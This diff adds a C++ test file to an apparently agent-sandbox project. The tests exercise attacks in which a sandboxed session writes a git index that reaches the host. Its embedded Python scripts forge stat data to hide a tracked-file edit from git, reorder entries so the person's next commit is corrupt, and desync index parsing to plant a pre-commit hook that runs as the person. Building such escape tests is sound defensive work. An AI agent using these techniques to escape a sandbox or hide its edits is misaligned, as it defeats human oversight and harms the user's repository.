@@ -1,0 +1,241 @@
+// Fourth outside review of "Git for agents" (docs/security.md, review 7 of the project): what the
+// index a workspace-write session leaves in its private git directory does to the person's git
+// once the copy-back hands it over. IndexForHost checks each entry's path, mode and flags and
+// drops the extensions, but keeps every entry's stat data and their order as the session wrote
+// them. Each test fails while its hole is open:
+//  - stat data: an entry whose stat data is the worktree file's (ctime, mtime, device, inode,
+//    owner, size) while its object id is the committed content's makes the host's git take the
+//    file for unchanged without reading it (git's racy-clean rule does not apply: the index the
+//    daemon writes is newer than the file). A session's edit of a tracked file is then invisible
+//    to the person's `git status` and `git diff`, survives `git restore .`, `git stash` and
+//    `git commit -a`: what the skip-worktree flag did (GitReview2AttackTest), without the flag;
+//  - order: entries out of git's order (or repeated) pass; the host's git reads such an index
+//    without complaint, and the person's next `git commit` records a tree that is not sorted, a
+//    corrupt object (`git fsck`: treeNotSorted; `git show HEAD:a.txt` fails; a server that checks
+//    objects refuses the push).
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
+#include <iostream>
+#include <string>
+
+#include "tests/escape/escape_support.h"
+#include "tests/escape/git_attack_support.h"
+#include "tests/sandbox/process_runner.h"
+#include "tests/support/files.h"
+
+namespace ptybox::testing {
+namespace {
+
+using git_attack::HostGit;
+using git_attack::MakeRepository;
+using git_attack::Slurp;
+
+namespace fs = std::filesystem;
+using sandbox::testing::RunResult;
+
+// Rewrites .git/index (versions 2 and 3) in place: `stat UID GID` gives every entry the stat
+// data of the worktree file at its path (owner as given: the host's view of the workspace's
+// owner), keeping its object id; `reverse` puts the entries in the reverse of git's order. The
+// extensions are dropped (the copy-back drops them anyway) and the checksum computed again.
+constexpr const char* kIndexScript = R"PY(import hashlib, os, struct, sys
+idx = open('.git/index', 'rb').read()
+assert idx[:4] == b'DIRC'
+version, count = struct.unpack('>II', idx[4:12])
+entries, at = [], 12
+for _ in range(count):
+    flags = struct.unpack('>H', idx[at + 60:at + 62])[0]
+    name = at + 62 + (2 if flags & 0x4000 else 0)
+    nul = idx.index(b'\0', name)
+    end = at + ((nul - at + 8) & ~7)
+    entries.append(bytearray(idx[at:end]))
+    at = end
+if sys.argv[1] == 'stat':
+    for e in entries:
+        flags = struct.unpack('>H', e[60:62])[0]
+        name = 62 + (2 if flags & 0x4000 else 0)
+        path = bytes(e[name:e.index(b'\0', name)]).decode()
+        st = os.lstat(path)
+        e[0:24] = struct.pack('>IIIIII', int(st.st_ctime), st.st_ctime_ns % 10**9,
+                              int(st.st_mtime), st.st_mtime_ns % 10**9,
+                              st.st_dev & 0xffffffff, st.st_ino & 0xffffffff)
+        e[28:40] = struct.pack('>III', int(sys.argv[2]), int(sys.argv[3]), st.st_size)
+elif sys.argv[1] == 'reverse':
+    entries.reverse()
+body = idx[:12] + b''.join(entries)
+open('.git/index.new', 'wb').write(body + hashlib.sha1(body).digest())
+os.rename('.git/index.new', '.git/index')
+print('index rewritten')
+)PY";
+
+// Writes .git/index as three entries that git and the copy-back's ParseIndex read at different
+// offsets. git takes an entry's name length from its flags (when under 0xFFF); ParseIndex reads
+// each name up to its NUL. The first entry's flags say 57 while its name ".escape/ok" ends after
+// 10: git's second entry then starts 40 bytes after ParseIndex's second one, inside it, and the
+// two views meet again at the end of the third. ParseIndex sees ".escape/ok", "qq" and a 54-byte
+// name of binary bytes, each a harmless path; git sees ".escape/ok\0...", ".git/hooks/pre-commit"
+// (mode 100755, the blob of a hook the script writes) and "z". The script picks the hook's content
+// so that its id's byte 18 (which ParseIndex reads as a mode) says "regular file", and z's so
+// that its id (part of a name ParseIndex reads) holds no NUL, slash or backslash.
+constexpr const char* kDesyncScript =
+    R"PY(# An index whose entries git reads at one set of offsets (each name as long as its flags say) and
+# the copy-back's ParseIndex at another (each name up to its NUL): git sees .git/hooks/pre-commit.
+import hashlib, os, struct, subprocess, sys
+marker = sys.argv[1]
+def blob(data):
+    return subprocess.run(['git', 'hash-object', '-w', '--stdin'], input=data, capture_output=True,
+                          check=True).stdout.decode().strip()
+n = 0
+while True:  # the hook's id: its byte 18 (the copy-back's view of a mode) says "regular file"
+    hook = ('#!/bin/sh\ntouch %s\n# %d\n' % (marker, n)).encode()
+    hook_id = bytes.fromhex(hashlib.sha1(b'blob %d\0' % len(hook) + hook).hexdigest())
+    if hook_id[18] >> 4 == 8: break
+    n += 1
+blob(hook)
+n = 0
+while True:  # z's id: part of a name the copy-back reads, so no NUL, slash or backslash
+    z = ('z %d\n' % n).encode()
+    z_id = bytes.fromhex(hashlib.sha1(b'blob %d\0' % len(z) + z).hexdigest())
+    if not any(c in z_id for c in b'\0/\\'): break
+    n += 1
+blob(z)
+a_id = bytes.fromhex(blob(b'one\n'))
+buf = bytearray(284)
+buf[0:12] = b'DIRC' + struct.pack('>II', 2, 3)
+def put(at, data): buf[at:at + len(data)] = data
+# G1 = P1 at 12: git reads a 57-byte name, ParseIndex ".escape/ok".
+put(12 + 24, struct.pack('>I', 0o100644)); put(12 + 40, a_id); put(12 + 60, struct.pack('>H', 57))
+put(74, b'.escape/ok\0')
+# P2 at 92 (ParseIndex only): mode, then its oid and flags are G2's first bytes.
+put(92, b'\x01' * 24); put(116, struct.pack('>I', 0o100644)); put(120, b'\x01' * 11); buf[131] = 0
+# G2 at 132: stat (P2's oid), ino high = P2's flags (0), ino low = P2's name "qq", mode's first byte
+# = P2's NUL.
+put(132, b'\x01' * 20); put(152, b'\0\0qq'); put(156, struct.pack('>I', 0o100755))
+put(160, b'\x01' * 12); put(172, hook_id); put(192, struct.pack('>H', 21))
+put(194, b'.git/hooks/pre-commit\0')
+# G3 at 220: its bytes 6..59 are P3's name (no NUL), its flags' high byte P3's NUL.
+put(220, b'\x01' * 4); put(224, b'\0\0\x01\x01'); put(228, b'\x01' * 16)
+put(244, bytes([1, 1, 0x81, 0xa4])); put(248, b'\x01' * 12); put(260, z_id)
+put(280, struct.pack('>H', 1)); put(282, b'z\0')
+body = bytes(buf)
+open('.git/index.new', 'wb').write(body + hashlib.sha1(body).digest())
+os.rename('.git/index.new', '.git/index')
+print('index rewritten')
+)PY";
+
+void WriteIndexScript(const fs::path& ws) {
+  std::ofstream(ws / ".escape" / "index.py") << kIndexScript;
+  std::ofstream(ws / ".escape" / "desync.py") << kDesyncScript;
+}
+
+// The session writes the hook's blob and the index of kDesyncScript; each path the copy-back reads
+// passes, so the host gets it. The person's `git status` shows `.git/hooks/pre-commit` deleted;
+// `git restore .` (discarding the agent's changes, as in GitReviewAttackTest) writes it, and their
+// next commit runs it.
+TEST(GitReview4AttackTest, AnIndexGitReadsOtherwiseThanTheCopyBackNeverBecomesAHostHook) {
+  Daemon daemon(Daemon::Options{.extra_args = {}, .env = {"PTYBOX_GIT_WRITE=1"}});
+  const fs::path ws = daemon.workspace();
+  MakeRepository(ws);
+  WriteIndexScript(ws);
+  TempDir host;
+  ASSERT_EQ(::chmod(host.path().c_str(), 0777), 0);
+  const fs::path marker = host.path() / "ran";
+  RpcClient client(daemon.socket());
+  const std::string id = OpenSession(client, "workspace-write");
+  ASSERT_FALSE(id.empty()) << daemon.Log();
+  Observed did = RunInSession(client, id, "workspace-write", "desync-index",
+                              "python3 .escape/desync.py " + marker.string());
+  std::cout << "  observed " << did.Show() << "\n";
+  ASSERT_TRUE(did.Says("index rewritten")) << did.Show();
+  RunResult files = HostGit(ws, {"ls-files", "-s"});
+  std::cout << "  host ls-files: " << files.out << files.err << "\n";
+  RunResult restore = HostGit(ws, {"restore", "."});
+  std::cout << "  host restore: " << restore.exit_code << " " << restore.err << "\n";
+  RunResult commit = HostGit(ws, {"commit", "-q", "--allow-empty", "-m", "mine"});
+  std::cout << "  host commit: " << commit.exit_code << " " << commit.err << "\n";
+  EXPECT_FALSE(fs::exists(ws / ".git" / "hooks" / "pre-commit"))
+      << "the host's `git restore .` wrote a hook from an index the copy-back let through\n"
+      << daemon.Log();
+  EXPECT_FALSE(fs::exists(marker))
+      << "the person's `git commit` ran a hook the session wrote (as the person)\n"
+      << daemon.Log();
+}
+
+// The session replaces a.txt's content ("one" becomes "EVIL"), waits a second (so that the file
+// is older than any index written after it), and gives a.txt's index entry the file's stat data
+// while keeping the committed blob's id. No flag is set, no path is odd, no extension is kept:
+// IndexForHost passes it and the host gets it. The person looks at what the agent did and
+// throws its uncommitted edits away.
+TEST(GitReview4AttackTest, AnIndexWithTheEditedFilesStatDataNeverHidesTheEditFromTheHost) {
+  Daemon daemon(Daemon::Options{.extra_args = {}, .env = {"PTYBOX_GIT_WRITE=1"}});
+  const fs::path ws = daemon.workspace();
+  MakeRepository(ws);
+  WriteIndexScript(ws);
+  struct stat owner {};
+  ASSERT_EQ(::stat((ws / "a.txt").c_str(), &owner), 0);
+  RpcClient client(daemon.socket());
+  const std::string id = OpenSession(client, "workspace-write");
+  ASSERT_FALSE(id.empty()) << daemon.Log();
+  const std::string work =
+      "printf 'EVIL\\n' > a.txt && sleep 1.2 && python3 .escape/index.py stat " +
+      std::to_string(owner.st_uid) + " " + std::to_string(owner.st_gid) +
+      " && git status --porcelain | wc -l && echo forged";
+  Observed did = RunInSession(client, id, "workspace-write", "stat-forged-index", work);
+  std::cout << "  observed " << did.Show() << "\n";
+  ASSERT_TRUE(did.Says("forged")) << did.Show();
+  ASSERT_EQ(Slurp(ws / "a.txt"), "EVIL\n");
+  RunResult status = HostGit(ws, {"status", "--porcelain"});
+  RunResult diff = HostGit(ws, {"diff", "--stat"});
+  std::cout << "  host status: [" << status.out << "] diff: [" << diff.out << "]\n";
+  EXPECT_NE(status.out.find("a.txt"), std::string::npos)
+      << "the host's `git status` does not show the session's edit of a tracked file: the index "
+         "the copy-back wrote carries the edited file's stat data under the committed blob's id\n"
+      << daemon.Log();
+  // The person discards the agent's uncommitted work.
+  RunResult restore = HostGit(ws, {"restore", "."});
+  std::cout << "  host restore: " << restore.exit_code << " " << restore.err << "\n";
+  EXPECT_EQ(Slurp(ws / "a.txt"), "one\n")
+      << "`git restore .` kept the session's edit of a.txt (git took it for unchanged)\n"
+      << daemon.Log();
+}
+
+// The session writes its index with the entries in the reverse of git's order (.gitignore and
+// a.txt swapped; each path fine, no flag). The host's git reads it without a word; the person's
+// next commit, of a file of their own, records a tree out of order.
+TEST(GitReview4AttackTest, AnIndexOutOfOrderNeverCorruptsThePersonsNextCommit) {
+  Daemon daemon(Daemon::Options{.extra_args = {}, .env = {"PTYBOX_GIT_WRITE=1"}});
+  const fs::path ws = daemon.workspace();
+  MakeRepository(ws);
+  WriteIndexScript(ws);
+  RpcClient client(daemon.socket());
+  const std::string id = OpenSession(client, "workspace-write");
+  ASSERT_FALSE(id.empty()) << daemon.Log();
+  Observed did = RunInSession(client, id, "workspace-write", "unsorted-index",
+                              "python3 .escape/index.py reverse && echo reordered");
+  std::cout << "  observed " << did.Show() << "\n";
+  ASSERT_TRUE(did.Says("reordered")) << did.Show();
+  RunResult files = HostGit(ws, {"ls-files"});
+  std::cout << "  host ls-files: " << files.out << "\n";
+  // The person's own work, committed as usual.
+  std::ofstream(ws / "c.txt") << "three\n";
+  ASSERT_EQ(HostGit(ws, {"add", "c.txt"}).exit_code, 0);
+  RunResult commit = HostGit(ws, {"commit", "-q", "-m", "mine"});
+  ASSERT_EQ(commit.exit_code, 0) << commit.err;
+  RunResult show = HostGit(ws, {"show", "HEAD:a.txt"});
+  RunResult fsck = HostGit(ws, {"fsck", "--no-dangling"});
+  std::cout << "  host show HEAD:a.txt: " << show.exit_code << " " << show.err
+            << "  host fsck: " << fsck.exit_code << " " << fsck.out << fsck.err << "\n";
+  EXPECT_EQ(show.exit_code, 0)
+      << "the person's commit after the copy-back cannot find a.txt in its own tree\n"
+      << daemon.Log();
+  EXPECT_EQ(fsck.exit_code, 0)
+      << "the person's repository fails `git fsck` after their own commit: the index the "
+         "copy-back wrote had its entries out of order\n"
+      << daemon.Log();
+}
+
+}  // namespace
+}  // namespace ptybox::testing
